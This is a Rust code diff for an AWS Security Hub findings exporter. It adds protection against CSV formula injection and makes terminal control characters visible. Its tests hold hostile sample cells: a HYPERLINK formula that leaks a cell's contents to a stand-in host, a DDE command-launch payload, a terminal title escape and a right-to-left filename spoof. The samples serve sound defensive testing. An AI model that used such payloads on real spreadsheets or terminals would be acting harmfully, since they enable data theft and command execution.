@@ -69,7 +69,12 @@ const CSV_COLUMNS: [CsvColumn; 15] = [
 ];
 
 /// RFC 4180: quote a field holding a comma, quote or line break; double inner quotes.
+/// A field a spreadsheet would run as a formula (starting with `= + - @`, TAB or CR) is
+/// neutralised as OWASP recommends: prefixed with `'` and quoted.
 pub fn csv_field(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        return format!("\"'{}\"", s.replace('"', "\"\""));
+    }
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -82,6 +87,8 @@ pub struct FindingsWriter<W: Write> {
     out: W,
     format: Format,
     written: usize,
+    /// CSV cells are shown with their control characters made visible (a terminal).
+    visible_cells: bool,
 }
 
 impl<W: Write> FindingsWriter<W> {
@@ -98,7 +105,15 @@ impl<W: Write> FindingsWriter<W> {
             out,
             format,
             written: 0,
+            visible_cells: false,
         })
+    }
+
+    /// For a terminal: each CSV cell's control, bidi and zero-width characters are shown
+    /// as `⟨U+XXXX⟩` (an embedded line break included), never sent raw.
+    pub fn visible_cells(mut self, on: bool) -> Self {
+        self.visible_cells = on;
+        self
     }
 
     pub fn page(&mut self, findings: &[Finding]) -> std::io::Result<()> {
@@ -115,8 +130,11 @@ impl<W: Write> FindingsWriter<W> {
                     self.out.write_all(f.raw.text().as_bytes())?;
                 }
                 Format::Csv => {
-                    let row: Vec<String> =
-                        CSV_COLUMNS.iter().map(|(_, v)| csv_field(&v(f))).collect();
+                    let cell = |text: String| match self.visible_cells {
+                        true => csv_field(&crate::domain::sanitize::visible(&text)),
+                        false => csv_field(&text),
+                    };
+                    let row: Vec<String> = CSV_COLUMNS.iter().map(|(_, v)| cell(v(f))).collect();
                     writeln!(self.out, "{}", row.join(","))?;
                 }
             }
@@ -296,11 +314,14 @@ pub async fn run(args: ExportFindingsArgs, paths: Paths) -> anyhow::Result<()> {
             std::fs::File::create(path)
                 .map_err(|e| anyhow::anyhow!("cannot create --output {}: {e}", path.display()))?,
         ),
-        None => Box::new(std::io::stdout()),
+        // A terminal sees AWS's text with its escapes made visible; a pipe gets it raw.
+        None => super::terminal::stdout(),
     };
+    let terminal = args.output.is_none() && super::terminal::stdout_is_terminal();
     // Large buffer: a page is ~100 findings of a few KB; one write(2) per page or so.
     let mut writer =
-        FindingsWriter::new(std::io::BufWriter::with_capacity(1 << 18, out), args.format)?;
+        FindingsWriter::new(std::io::BufWriter::with_capacity(1 << 18, out), args.format)?
+            .visible_cells(terminal);
     let mut stderr = std::io::stderr();
     let mut progress = |n: usize, pages: usize| {
         let _ = write!(stderr, "\rexporting: {n} findings, {pages} pages");
@@ -344,6 +365,54 @@ mod tests {
         assert!(lines[0].starts_with("Id,ProductArn,Severity,Workflow"));
         assert!(lines[1].starts_with("a,arn:p,HIGH,,,plain,"));
         assert!(text.contains("\"a, \"\"b\"\"\nc\""), "{text}");
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+        let hostile = [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
+            ),
+            ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(1,1)", "\"'@SUM(1,1)\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+        ];
+        for (cell, written) in hostile {
+            assert_eq!(csv_field(cell), written, "{cell:?}");
+        }
+        assert_eq!(csv_field("a=b"), "a=b", "only a leading character counts");
+        // Every column: Title, ResourceId, GeneratorId and the Id itself.
+        let f = Finding::from_asff(json!({
+            "Id": "=1+1", "ProductArn": "arn:p", "Title": "@x", "GeneratorId": "+g",
+            "Severity": {"Label": "HIGH"},
+            "Resources": [{"Type": "Other", "Id": "-r"}]
+        }))
+        .unwrap();
+        let text = written(Format::Csv, &[vec![f]]);
+        let row = text.lines().nth(1).unwrap();
+        for cell in ["\"'=1+1\"", "\"'@x\"", "\"'+g\"", "\"'-r\""] {
+            assert!(row.contains(cell), "{cell} in {row}");
+        }
+    }
+
+    #[test]
+    fn csv_for_a_terminal_shows_escapes_in_every_cell() {
+        let mut buf = Vec::new();
+        let mut w = FindingsWriter::new(&mut buf, Format::Csv)
+            .unwrap()
+            .visible_cells(true);
+        w.page(&[f("\x1b]0;pwned\x07 line\nbreak \u{202E}gnp.exe")])
+            .unwrap();
+        w.finish().unwrap();
+        let text = String::from_utf8(buf).unwrap();
+        assert!(
+            text.contains("⟨U+001B⟩]0;pwned⟨U+0007⟩ line⟨U+000A⟩break ⟨U+202E⟩gnp.exe"),
+            "{text}"
+        );
+        assert!(!text.contains('\x1b'));
     }
 
     #[test]
